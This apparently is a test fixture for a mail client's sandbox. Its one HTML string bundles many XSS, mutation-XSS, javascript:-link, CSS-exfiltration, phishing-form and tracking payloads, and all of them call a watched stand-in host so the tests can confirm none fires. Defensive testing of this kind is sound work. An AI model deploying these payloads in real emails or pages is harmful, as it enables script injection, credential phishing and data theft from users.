// Owns HTML that tries everything a mail can try in a browser: to run, to load, to navigate, to submit, to look like us.
// The tests of the console show that none of it happens. `beacon` is an address that the tests watch.

export const beacon = 'http://beacon.hostile.test'

export const hostileHtml = `<!doctype html><html><head>
<base href="${beacon}/base/">
<meta http-equiv="refresh" content="0; url=${beacon}/meta-refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'">
<link rel="stylesheet" href="${beacon}/link.css"><link rel="prefetch" href="${beacon}/prefetch"><link rel="dns-prefetch" href="//beacon.hostile.test">
<link rel="preconnect" href="${beacon}">
<style>@import url("${beacon}/import.css");
@font-face{font-family:x;src:url("${beacon}/font.woff2")}
body{background:url("${beacon}/css-background.png");font-family:x}
input[value^="a"]{background:url("${beacon}/css-exfiltration-a")}
#a{list-style:url("${beacon}/list");cursor:url("${beacon}/cursor"),auto}
#b{content:url("${beacon}/content")}
p::before{content:url("${beacon}/before")}
</style>
<script>document.title='ran';fetch('${beacon}/script');parent.postMessage('ran','*');top.location='${beacon}/top'</script>
<script src="${beacon}/external.js"></script><script type="module" src="${beacon}/module.js"></script>
</head><body onload="document.title='ran';fetch('${beacon}/onload')" background="${beacon}/body-background">
<p id="b">replaced</p><p id="a">A harmless first line.</p>
<img src="${beacon}/img.png" srcset="${beacon}/srcset.png 2x" onerror="fetch('${beacon}/onerror')" alt="picture">
<img src="x" onerror="document.title='ran';parent.document.title='ran'">
<svg onload="document.title='ran'"><script>document.title='ran'</script><image href="${beacon}/svg-image"/><use href="${beacon}/use.svg#x"/><animate onbegin="document.title='ran'" attributeName="x" dur="1s"/><foreignObject><iframe src="${beacon}/svg-frame"></iframe></foreignObject></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=document.title='ran'&gt;"></table></mtext></math>
<iframe src="${beacon}/iframe"></iframe><iframe srcdoc="<script>parent.document.title='ran'</script>"></iframe>
<object data="${beacon}/object"></object><embed src="${beacon}/embed"><applet code="${beacon}/applet"></applet>
<frameset><frame src="${beacon}/frame"></frameset>
<video src="${beacon}/video" poster="${beacon}/poster" autoplay></video><audio src="${beacon}/audio" autoplay></audio>
<form action="${beacon}/form" id="f"><input name="password" value="abc" autofocus onfocus="document.title='ran'"><button id="submit">Log in again</button></form>
<input form="f" type="image" src="${beacon}/input-image">
<a id="js" href="javascript:document.title='ran'">javascript link</a>
<a id="js2" href="java&#09;script:document.title='ran'">javascript link with a tab</a>
<a id="data" href="data:text/html,<script>document.title='ran'</script>">data link</a>
<a id="vb" href="vbscript:msgbox(1)">vbscript link</a>
<a id="top" target="_top" href="${beacon}/target-top">takes the whole page</a>
<a id="parent" target="_parent" href="${beacon}/target-parent">takes the page around</a>
<a id="ping" ping="${beacon}/ping" href="#here">ping</a>
<table background="${beacon}/table-background"><tr><td style="background:url(${beacon}/inline-style)">cell</td></tr></table>
<div style="position:fixed;inset:0;z-index:9999;background:transparent" onmouseover="document.title='ran'"></div>
<details open ontoggle="document.title='ran'"><summary>x</summary></details>
<marquee onstart="document.title='ran'">x</marquee>
<template><img src="${beacon}/template"></template>
<noscript><img src="${beacon}/noscript"></noscript>
<portal src="${beacon}/portal"></portal>
</body></html>`
